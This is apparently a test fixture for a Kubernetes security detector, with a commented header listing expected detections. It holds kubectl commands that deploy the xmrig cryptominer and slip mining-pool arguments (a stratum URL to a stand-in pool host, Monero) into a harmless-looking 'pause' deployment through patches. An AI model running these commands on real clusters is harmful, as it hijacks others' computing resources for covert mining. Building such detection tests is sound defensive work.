# A miner is run: a Deployment of one, and one that a Deployment is changed into, by a patch of each kind.
#
# may: create,get,patch deployments
# detections: 4
# also: container-added-by-patch: the third is a container that a JSON patch adds
# also: image-outside-allow-list: its registry is on nobody's list

kubectl create deployment worker --image=docker.io/xmrig/xmrig:6.21
admin create deployment shop --image=registry.k8s.io/pause:3.10
kubectl patch deployment shop --patch '{"spec": {"template": {"spec": {"containers":
  [{"name": "pause", "args": ["--url=stratum+tcp://pool.example.com:3333", "--donate-level=1"]}]}}}}'
kubectl patch deployment shop --type=json --patch '[{"op": "add", "path": "/spec/template/spec/containers/-", "value":
  {"name": "more", "image": "registry.k8s.io/pause:3.10", "args": ["--url=stratum+tcp://pool.example.com:3333"]}}]'
kubectl patch deployment shop --type=json --patch '[{"op": "replace", "path": "x/spec/template/spec/containers/0/args",
  "value": ["--coin=monero"]}]'
